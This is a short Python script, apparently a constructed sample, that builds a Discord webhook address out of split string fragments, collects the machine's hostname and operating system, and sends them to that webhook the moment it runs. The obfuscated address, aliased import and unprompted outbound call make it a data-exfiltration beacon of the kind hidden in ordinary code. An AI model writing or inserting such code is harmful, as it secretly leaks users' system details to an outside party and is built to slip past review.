# host-to-service: address in pieces, data through two helpers
import platform
from urllib import parse
from urllib import request as door

WHERE = "".join(["https://", "discord", ".com/api", "/webhooks/", "000/example"])


def facts():
    return {"n": platform.node(), "s": platform.system()}


def wrap(value):
    return parse.urlencode(value).encode()


door.urlopen(WHERE, data=wrap(facts()))
